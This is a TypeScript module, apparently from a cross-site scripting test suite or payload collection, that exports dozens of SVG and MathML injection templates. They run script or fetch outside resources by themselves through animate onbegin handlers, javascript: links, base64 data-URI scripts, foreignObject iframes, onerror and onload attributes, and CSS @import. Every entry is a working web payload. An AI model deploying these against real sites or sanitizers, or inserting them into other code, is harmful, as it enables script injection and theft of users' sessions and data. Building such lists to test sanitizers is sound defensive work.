import { type Payload, toBase64 } from "./payload.ts";

/** SVG and MathML that run or load something on their own. */
export const graphicPayloads: Payload[] = [
	(js) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
	(js) => `<svg><animate attributeName=x dur=1ms onend=${js} onrepeat=${js} repeatCount=2></svg>`,
	(js) => `<svg><set onbegin=${js} attributeName=x to=1></svg>`,
	(js) => `<svg><animateTransform onbegin=${js} attributeName=transform></svg>`,
	(js) => `<svg><animateMotion onbegin=${js} dur=1s path="M0 0"></animateMotion></svg>`,
	(js) => `<svg><discard onbegin=${js} begin=0s></svg>`,
	(js) => `<svg><a><animate attributeName=href values="javascript:${js}"></animate><text y=20>Words</text></a></svg>`,
	(js) => `<svg><a><set attributeName="xlink:href" to="javascript:${js}"></set><text y=20>Words</text></a></svg>`,
	(js) =>
		`<svg><a id=w href="#"><text y=20>Words</text></a><animate href=#w attributeName=href from="javascript:${js}" to="#" dur=9s></svg>`,
	(js) =>
		`<svg><a><animate attributeName=href values="#;javascript:${js}" keyTimes="0;0.001" dur=1s fill=freeze></animate><text y=20>Words</text></a></svg>`,
	(js) =>
		`<svg><use href="data:image/svg+xml;base64,${toBase64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><script>${js}</script></svg>`)}#x" /></svg>`,
	(_, url) => `<svg><use xlink:href="${url}#x"></use></svg>`,
	(_, url) => `<svg><image href="${url}" width=9 height=9 /></svg>`,
	(_, url) => `<svg><filter><feImage href="${url}" /></filter></svg>`,
	(js, url) => `<svg><image xlink:href="${url}" onerror=${js}></image></svg>`,
	(_, url) =>
		`<svg><style>@import "${url}";*{fill:url(${url}?f)}</style><rect width=9 height=9 style="fill:url(${url}?s)"></svg>`,
	(js) =>
		`<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.${js}&lt;/script&gt;"></iframe></foreignObject></svg>`,
	(js) => `<svg><foreignObject width=9 height=9><body onload=${js}><img src=x onerror=${js}></foreignObject></svg>`,
	(js) =>
		`<svg><handler type="text/javascript" ev:event=load>${js}</handler><listener event=load handler=#h></listener></svg>`,
	(js) => `<svg><text onclick=${js} onfocusin=${js} tabindex=0 y=20>Words</text></svg>`,
	(js) => `<svg><view onload=${js}></view><desc onclick=${js}>Words</desc><g onload=${js}></g></svg>`,
	(js) => `<svg:svg onload=${js}></svg:svg><svg xmlns:x=y x:onload=${js} onload=${js}>`,
	(js) => `<svg xmlns="http://www.w3.org/2000/svg"><g><svg onload="${js}"></g></svg>`,
	(js) => `<p>Words <svg width=1 onfocus=${js} tabindex=0 autofocus> more</p>`,
	(js) => `<math><mi onclick=${js} style="font-size:99px">Words</mi></math>`,
	(js) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${js}></annotation-xml></math>`,
	(js) =>
		`<math><semantics><mi>a</mi><annotation-xml encoding="application/xhtml+xml"><svg onload=${js}></annotation-xml></semantics></math>`,
];
